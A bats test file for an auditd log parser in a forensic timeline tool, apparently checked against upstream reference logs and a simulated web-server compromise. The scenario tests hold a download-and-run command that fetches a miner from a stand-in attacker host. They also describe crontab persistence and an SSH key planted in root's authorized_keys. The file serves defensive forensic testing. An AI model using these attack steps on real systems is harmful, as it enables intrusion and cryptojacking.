#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# The audit artifact: auditd logs (raw and ENRICHED) assembled into events
# as libauparse does, checked against the upstream test logs' expected
# figures (auparse_test.ref, go-libaudit's golden file, plaso's test) and
# against the web01 scenario.

load helpers/common

AUDIT=$TESTDATA/logs/audit

# Parse file(s) as the audit artifact into $db; the status is checked by
# the caller through $1.
load_audit() {
	local status=$1
	shift
	db=$BATS_TEST_TMPDIR/case.db
	rm -f "$db" "$db"-*
	need "$@"
	run "-$status" --separate-stderr spoor-timeline -c "$db" --artifact audit "$@"
}

# The web01 image with only the audit artifact parsed, into $db.
load_scenario() {
	need "$SCENARIO/web01.E01" "$SCENARIO/scenario.env"
	# shellcheck disable=SC1091
	. "$SCENARIO/scenario.env"
	db=$BATS_TEST_TMPDIR/case.db
	rm -f "$db" "$db"-*
	run -0 --separate-stderr spoor-timeline -c "$db" --artifacts audit "$SCENARIO/web01.E01"
}

q() {
	sqlite3 "$db" "$1"
}

@test "auparse test.log: 7 events of 4,1,1,3,1,1,1 records" {
	load_audit 0 "$AUDIT/auparse_test.log"
	assert_equal "$(q "SELECT group_concat(n) FROM (SELECT json_extract(extra, '\$.records') n FROM events ORDER BY origin_line)")" \
	    "4,1,1,3,1,1,1"
	# event 1 is audit(1170021493.977:293): AVC + SYSCALL + CWD + PATH
	assert_equal "$(q "SELECT time_ns, json_extract(extra, '\$.serial') FROM events ORDER BY origin_line LIMIT 1")" \
	    "1170021493977000000|293"
}

@test "auparse test2.log then test.log: 14 events of 4,1,1,3,1,1,1 twice" {
	need "$AUDIT/auparse_test2.log" "$AUDIT/auparse_test.log"
	cat "$AUDIT/auparse_test2.log" "$AUDIT/auparse_test.log" > "$BATS_TEST_TMPDIR/both.log"
	load_audit 0 "$BATS_TEST_TMPDIR/both.log"
	assert_equal "$(q "SELECT group_concat(n) FROM (SELECT json_extract(extra, '\$.records') n FROM events ORDER BY origin_line)")" \
	    "4,1,1,3,1,1,1,4,1,1,3,1,1,1"
}

@test "auparse test4.log: 2 long events of 7 and 6 records, EXECVE of 50 and 218 fields" {
	load_audit 0 "$AUDIT/auparse_test4.log"
	# a field count is type + argc + the arguments: 48 and 216 arguments
	run -0 q "SELECT time_desc, json_extract(extra, '\$.records'), json_array_length(extra, '\$.argv') FROM events ORDER BY origin_line"
	assert_output "exec|7|48
exec|6|216"
	assert_equal "$(q "SELECT json_extract(extra, '\$.argv[0]') || ' ' || json_extract(extra, '\$.argv[22]') FROM events ORDER BY origin_line LIMIT 1")" \
	    "/bin/sh ztest105133.so"
}

@test "go-libaudit rhel7 log: 50 lines, line 31 rejected as its golden null entry" {
	load_audit 2 "$AUDIT/go-libaudit_audit-rhel7.log"
	assert_equal "$(jq 'length' "$AUDIT/go-libaudit_audit-rhel7.log.golden")" 50
	assert_equal "$(jq -c '[to_entries[] | select(.value == null) | .key + 1]' "$AUDIT/go-libaudit_audit-rhel7.log.golden")" "[31]"
	assert_equal "$(q "SELECT message FROM problems")" "line 31: no audit(time:serial) stamp"
	# every other record is in an event
	assert_equal "$(q "SELECT sum(json_extract(extra, '\$.records')) FROM events")" 49
	assert_equal "$(q "SELECT state FROM runs")" partial
}

@test "go-libaudit rhel7 log: socket addresses decoded as the golden file has them" {
	load_audit 2 "$AUDIT/go-libaudit_audit-rhel7.log"
	for line in 22 23 24 25 26; do
		want=$(jq -r ".[$((line - 1))].data | [.family, (.addr // .path // \"\"), (.port // \"\")] | join(\"|\")" \
		    "$AUDIT/go-libaudit_audit-rhel7.log.golden")
		got=$(q "SELECT json_extract(extra, '\$.family') || '|' || ifnull(json_extract(extra, '\$.address'), '') || '|' || ifnull(json_extract(extra, '\$.port'), '') FROM events WHERE origin_line = $line")
		assert_equal "$got" "$want"
	done
	assert_equal "$(q "SELECT json_extract(extra, '\$.address') FROM events WHERE origin_line = 22")" "169.254.169.254"
}

@test "go-libaudit rhel7 log: EXECVE argv, hex exe and hex cwd decoded as the golden file has them" {
	load_audit 2 "$AUDIT/go-libaudit_audit-rhel7.log"
	for line in 15 46 47 48; do
		want=$(jq -c ".[$((line - 1))].data | [to_entries[] | select(.key | test(\"^a[0-9]+\$\")) | {i: (.key[1:] | tonumber), v: .value}] | sort_by(.i) | map(.v)" \
		    "$AUDIT/go-libaudit_audit-rhel7.log.golden")
		got=$(q "SELECT json_extract(extra, '\$.argv') FROM events WHERE origin_line = $line")
		assert_equal "$got" "$want"
		assert_equal "$(q "SELECT time_desc FROM events WHERE origin_line = $line")" exec
	done
	assert_equal "$(q "SELECT exe FROM events WHERE origin_line = 28")" \
	    "$(jq -r '.[27].data.exe' "$AUDIT/go-libaudit_audit-rhel7.log.golden")"
	assert_equal "$(q "SELECT json_extract(extra, '\$.cwd') FROM events WHERE origin_line = 11")" \
	    "$(jq -r '.[10].data.cwd' "$AUDIT/go-libaudit_audit-rhel7.log.golden")"
}

@test "plaso selinux.log: 4 malformed lines are problems, the 7 good records are kept" {
	load_audit 2 "$AUDIT/plaso_selinux.log"
	run -0 q "SELECT message FROM problems ORDER BY id"
	assert_output "line 2: no audit(time:serial) stamp
line 4: no audit(time:serial) stamp
line 6: no record type
line 7: no record type"
	# plaso's 7 event data; the AVC and the SYSCALL of serial 101 are one event
	assert_equal "$(q "SELECT sum(json_extract(extra, '\$.records')) FROM events")" 7
	assert_equal "$(q "SELECT time_ns, pid FROM events WHERE json_extract(extra, '\$.type') = 'LOGIN'")" \
	    "1337845201174000000|25443"
	assert_equal "$(q "SELECT time_ns FROM events WHERE json_extract(extra, '\$.type') = 'SHORTDATE'")" \
	    "1337845201000000000"
	assert_equal "$(q "SELECT time_ns FROM events WHERE json_extract(extra, '\$.type') = 'NOMSG'")" \
	    "1337845222174000000"
	assert_equal "$(q "SELECT time_ns, pid FROM events WHERE json_extract(extra, '\$.type') = 'UNDER_SCORE'")" \
	    "1337845666174000000|25444"
}

@test "plaso selinux.log: the SYSCALL record of serial 101 with its fields" {
	load_audit 2 "$AUDIT/plaso_selinux.log"
	run -0 q "SELECT exe, pid, ppid, json_extract(extra, '\$.comm'), json_extract(extra, '\$.syscall'),
	    json_extract(extra, '\$.success'), json_extract(extra, '\$.exit'), json_extract(extra, '\$.uid'),
	    json_extract(extra, '\$.auid'), json_extract(extra, '\$.ses'), json_extract(extra, '\$.records')
	    FROM events WHERE json_extract(extra, '\$.serial') = 101"
	assert_output "/bin/ls|2714|2671|ls|197|yes|0|0|0|1|2"
}

@test "interleaved events are kept apart, and a serial restarted by a reboot is a new event" {
	cat > "$BATS_TEST_TMPDIR/a.log" <<'EOF'
type=SYSCALL msg=audit(1700000000.100:10): arch=c000003e syscall=59 success=yes exit=0 items=1 ppid=1 pid=100 auid=0 uid=0 euid=0 ses=1 tty=pts0 comm="ls" exe="/usr/bin/ls" key=(null)
type=SYSCALL msg=audit(1700000000.100:11): arch=c000003e syscall=59 success=yes exit=0 items=1 ppid=1 pid=101 auid=0 uid=0 euid=0 ses=1 tty=pts0 comm="id" exe="/usr/bin/id" key=(null)
type=EXECVE msg=audit(1700000000.100:10): argc=2 a0="ls" a1=2F746D702F612062
type=EXECVE msg=audit(1700000000.100:11): argc=1 a0_len=4 a0[0]=6964 a0[1]="x"
type=PROCTITLE msg=audit(1700000000.100:11): proctitle=69640078
type=PROCTITLE msg=audit(1700000000.100:10): proctitle=6C73
type=SYSCALL msg=audit(1700009000.000:3): arch=40000003 syscall=11 success=yes exit=0 items=0 ppid=1 pid=7 auid=0 uid=0 euid=0 ses=1 tty=(none) comm="sh" exe="/bin/sh" key=(null)
type=EXECVE msg=audit(1700009000.000:3): argc=1 a0="sh"
type=EOE msg=audit(1700009000.000:3):
type=EOE msg=audit(1700009000.000:3):
EOF
	load_audit 0 "$BATS_TEST_TMPDIR/a.log"
	run -0 q "SELECT pid, json_extract(extra, '\$.records'), json_extract(extra, '\$.argv') FROM events ORDER BY origin_line"
	assert_output '100|3|["ls","/tmp/a b"]
101|3|["idx"]
7|3|["sh"]'
}

@test "events never closed are all kept, however many are open at once" {
	for i in $(seq 1 1500); do
		echo "type=AVC msg=audit(1700000000.000:$i): avc:  denied  { read } for pid=$i comm=\"x\""
	done > "$BATS_TEST_TMPDIR/many.log"
	load_audit 0 "$BATS_TEST_TMPDIR/many.log"
	assert_equal "$(q "SELECT count(*), count(DISTINCT json_extract(extra, '\$.serial')) FROM events")" "1500|1500"
}

@test "malformed lines are problems with their line number: status 2, good records kept" {
	need "$AUDIT/auparse_test.log"
	{
		head -4 "$AUDIT/auparse_test.log"
		echo 'this is not an audit record'
		head -c 10485760 /dev/zero | tr '\0' 'a'; echo
		printf 'type=USER_LOGIN msg=audit(1170021601.300:400): pid=1 uid=0 msg=\x27op=login\x00 id=0 res=success\x27\n'
		printf 'type=USER_LOGIN msg=audit(1170021601.301:401): pid=1 uid=0 msg=\x27op=login acct="\xff\xfe" res=success\x27\n'
		tail -n +5 "$AUDIT/auparse_test.log"
	} > "$BATS_TEST_TMPDIR/bad.log"
	load_audit 2 "$BATS_TEST_TMPDIR/bad.log"
	[[ "$stderr" == *"4 problems skipped (partial results)"* ]]
	run -0 q "SELECT message FROM problems ORDER BY id"
	assert_output "line 5: no record type
line 6: line longer than 65536 bytes
line 7: NUL byte in record
line 8: invalid UTF-8 in record"
	assert_equal "$(q "SELECT group_concat(n) FROM (SELECT json_extract(extra, '\$.records') n FROM events ORDER BY origin_line)")" \
	    "4,1,1,3,1,1,1"
}

@test "web01: apache2 (pid 811, www-data) runs sh -c (pid 2301) at T_EXEC" {
	load_scenario
	run -0 q "SELECT time_ns / 1000000000, time_desc, user, ppid, exe, json_extract(extra, '\$.uid'),
	    json_extract(extra, '\$.argv[0]') || ' ' || json_extract(extra, '\$.argv[1]')
	    FROM events WHERE artifact = 'audit' AND time_desc = 'exec' AND pid = $PID_SH"
	assert_output "$T_EXEC|exec|www-data|$PID_APACHE|/usr/bin/dash|33|sh -c"
	assert_equal "$(q "SELECT json_extract(extra, '\$.argv[2]') FROM events WHERE time_desc = 'exec' AND pid = $PID_SH")" \
	    "wget -q http://$ATTACKER_IP:8080/k -O $KSWAPD0_PATH;chmod +x $KSWAPD0_PATH;$MINER_CMDLINE >/dev/null 2>&1 &"
}

@test "web01: wget (pid 2302) downloads the miner from the attacker" {
	load_scenario
	run -0 q "SELECT time_ns / 1000000000, ppid, user, message, json_extract(extra, '\$.argv')
	    FROM events WHERE artifact = 'audit' AND time_desc = 'exec' AND pid = $PID_WGET"
	assert_output "$T_EXEC|$PID_SH|www-data|exec: wget -q http://$ATTACKER_IP:8080/k -O $KSWAPD0_PATH (pid $PID_WGET, ppid $PID_SH, uid 33)|[\"wget\",\"-q\",\"http://$ATTACKER_IP:8080/k\",\"-O\",\"$KSWAPD0_PATH\"]"
}

@test "web01: chmod (pid 2303) makes the miner executable" {
	load_scenario
	run -0 q "SELECT ppid, user, json_extract(extra, '\$.argv') FROM events
	    WHERE artifact = 'audit' AND time_desc = 'exec' AND pid = $PID_CHMOD"
	assert_output "$PID_SH|www-data|[\"chmod\",\"+x\",\"$KSWAPD0_PATH\"]"
}

@test "web01: the miner kswapd0 (pid 2304) starts at T_MINER_START with its config" {
	load_scenario
	run -0 q "SELECT time_ns / 1000000000, ppid, user, exe FROM events
	    WHERE artifact = 'audit' AND time_desc = 'exec' AND pid = $PID_MINER"
	assert_output "$T_MINER_START|$PID_SH|www-data|$KSWAPD0_PATH"
	assert_equal "$(q "SELECT group_concat(value, ' ') FROM events, json_each(extra, '\$.argv')
	    WHERE time_desc = 'exec' AND pid = $PID_MINER")" "$MINER_CMDLINE"
}

@test "web01: the miner connects to the pool at T_CONNECT (EINPROGRESS is still a connect)" {
	load_scenario
	run -0 q "SELECT time_ns / 1000000000, user, json_extract(extra, '\$.family'), json_extract(extra, '\$.success'),
	    json_extract(extra, '\$.exit') FROM events WHERE artifact = 'audit' AND time_desc = 'connect'
	    AND pid = $PID_MINER AND json_extract(extra, '\$.address') = '$POOL_IP'
	    AND json_extract(extra, '\$.port') = $POOL_PORT"
	assert_output "$T_CONNECT|www-data|ipv4|no|-115"
}

@test "web01: www-data's crontab is written (as a rename into crontabs/) at T_PERSIST" {
	load_scenario
	run -0 q "SELECT time_ns / 1000000000, user, exe, json_extract(extra, '\$.old_path') LIKE '/var/spool/cron/crontabs/tmp.%'
	    FROM events WHERE artifact = 'audit' AND time_desc = 'rename' AND path = '$CRON_WWW_PATH'"
	assert_output "$T_PERSIST|www-data|/usr/bin/crontab|1"
}

@test "web01: tee run through sudo writes root's authorized_keys at T_SSH_KEY_ADDED" {
	load_scenario
	run -0 q "SELECT time_ns / 1000000000, user, exe, ppid FROM events
	    WHERE artifact = 'audit' AND time_desc = 'write' AND path = '$AUTHORIZED_KEYS_PATH'"
	assert_output "$T_SSH_KEY_ADDED|root|/usr/bin/tee|$(q "SELECT pid FROM events WHERE time_desc = 'exec' AND exe = '/usr/bin/sudo' AND ppid = (SELECT pid FROM events WHERE time_desc = 'exec' AND ppid = $PID_APACHE AND time_ns / 1000000000 = $T_PERSIST)")"
}

@test "web01: root logs in over SSH from the attacker at T_ROOT_LOGIN (11:02:41)" {
	load_scenario
	run -0 q "SELECT time_ns / 1000000000, user, json_extract(extra, '\$.addr'), json_extract(extra, '\$.terminal'), exe
	    FROM events WHERE artifact = 'audit' AND time_desc = 'login'
	    AND time_ns >= ${SCENARIO_DAY_START}000000000 + 11 * 3600000000000"
	assert_output "$T_ROOT_LOGIN|root|$ATTACKER_IP|/dev/pts/0|/usr/sbin/sshd"
	assert_equal "$(date -u -d "@$T_ROOT_LOGIN" +%H:%M:%S)" "11:02:41"
}

# Per event (time:serial): the raw record's last ses= and auid= and its tty
# (tty=, else a terminal= naming a device), unset values (4294967295,
# "(none)") empty: the first record of each event that has ses=.
raw_identity() {
	grep ' ses=' "$1" | awk '{
		serial = $0; sub(/.*msg=audit\(/, "", serial); sub(/\).*/, "", serial)
		if (seen[serial]++) next
		ses = auid = tty = ""
		for (i = 1; i <= NF; i++) {
			split($i, kv, "=")
			# the last: "old auid=... new auid=0" gives the new
			if (kv[1] == "ses") ses = kv[2]
			if (kv[1] == "auid") auid = kv[2]
			if (kv[1] == "tty" && kv[2] != "(none)") tty = kv[2]
			if (kv[1] == "terminal" && tty == "") {
				t = kv[2]; sub(/^\/dev\//, "", t)
				if (t ~ /^(tty|pts\/|console)/) tty = t
			}
		}
		if (ses == "4294967295") ses = ""
		if (auid == "4294967295") auid = ""
		print serial "|" ses "|" auid "|" tty
	}' | sort -n
}

@test "session, auid and tty of every event are its record's ses=, auid= and tty=" {
	for f in "$AUDIT/go-libaudit_audit-rhel7.log" "$AUDIT/auparse_test.log" "$AUDIT/plaso_selinux.log"; do
		db=$BATS_TEST_TMPDIR/case.db
		rm -f "$db" "$db"-*
		run spoor-timeline -c "$db" --artifact audit "$f"
		[ "$status" -le 2 ]
		expected=$(raw_identity "$f")
		[ -n "$expected" ]
		actual=$(sqlite3 "$db" "SELECT printf('%d.%03d:%d', time_ns / 1000000000,
		    time_ns / 1000000 % 1000, json_extract(extra, '\$.serial')),
		    coalesce(session, ''), coalesce(auid, ''), coalesce(tty, '')
		    FROM events") || return 1
		# only the events whose records say ses=
		assert_equal "$(awk -F'|' 'NR == FNR { want[$1] = 1; next }
		    want[$1] && !seen[$1]++' <(echo "$expected") <(echo "$actual") | sort -n)" \
		    "$expected"
	done
}

@test "cwd is the CWD record's cwd, hex decoded" {
	load_audit 2 "$AUDIT/go-libaudit_audit-rhel7.log"
	assert_equal "$(sqlite3 "$db" "SELECT cwd FROM events WHERE json_extract(extra, '\$.serial') = 479")" \
	    /home/andrew_kroh
	# 2F746D702F6120622063 is "/tmp/a b c"
	assert_equal "$(sqlite3 "$db" "SELECT cwd FROM events WHERE json_extract(extra, '\$.serial') = 1208725")" \
	    "/tmp/a b c"
}

@test "a pid in two boots gets two boot ids: DAEMON_START, then the kernel's serial restarts" {
	printf '%s\n' \
	    'type=DAEMON_START msg=audit(1700000000.000:9000): op=start ver=3.0 auid=4294967295 pid=500 res=success' \
	    'type=SYSCALL msg=audit(1700000010.000:40): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=777 auid=1000 uid=0 tty=pts0 ses=3 comm="sh" exe="/bin/sh"' \
	    'type=EOE msg=audit(1700000010.000:40): ' \
	    'type=SYSCALL msg=audit(1700000020.000:41): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=778 auid=1000 uid=0 tty=pts0 ses=3 comm="sh" exe="/bin/sh"' \
	    'type=EOE msg=audit(1700000020.000:41): ' \
	    'type=DAEMON_START msg=audit(1700086400.000:9001): op=start ver=3.0 auid=4294967295 pid=480 res=success' \
	    'type=SYSCALL msg=audit(1700086410.000:12): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=777 auid=4294967295 uid=0 tty=(none) ses=4294967295 comm="sh" exe="/bin/sh"' \
	    'type=EOE msg=audit(1700086410.000:12): ' \
	    > "$BATS_TEST_TMPDIR/audit.log"
	load_audit 0 "$BATS_TEST_TMPDIR/audit.log"
	run -0 sqlite3 "$db" "SELECT pid, boot_id, coalesce(session, '-'), coalesce(auid, '-'), coalesce(tty, '-')
	    FROM events WHERE pid IN (777, 778) ORDER BY time_ns"
	assert_output "777|boot@2023-11-14T22:13:20Z|3|1000|pts0
778|boot@2023-11-14T22:13:20Z|3|1000|pts0
777|boot@2023-11-15T22:13:20Z|-|-|-"
}

@test "a restart of auditd alone, without a serial restart, keeps the boot" {
	printf '%s\n' \
	    'type=DAEMON_START msg=audit(1700000000.000:9000): op=start ver=3.0 auid=4294967295 pid=500 res=success' \
	    'type=SYSCALL msg=audit(1700000010.000:40): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=777 auid=1000 uid=0 tty=pts0 ses=3 comm="sh" exe="/bin/sh"' \
	    'type=DAEMON_START msg=audit(1700000050.000:9001): op=start ver=3.0 auid=4294967295 pid=501 res=success' \
	    'type=SYSCALL msg=audit(1700000060.000:45): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=779 auid=1000 uid=0 tty=pts0 ses=3 comm="sh" exe="/bin/sh"' \
	    > "$BATS_TEST_TMPDIR/audit.log"
	load_audit 0 "$BATS_TEST_TMPDIR/audit.log"
	assert_equal "$(sqlite3 "$db" "SELECT DISTINCT boot_id FROM events WHERE pid IN (777, 779)")" \
	    boot@2023-11-14T22:13:20Z
}
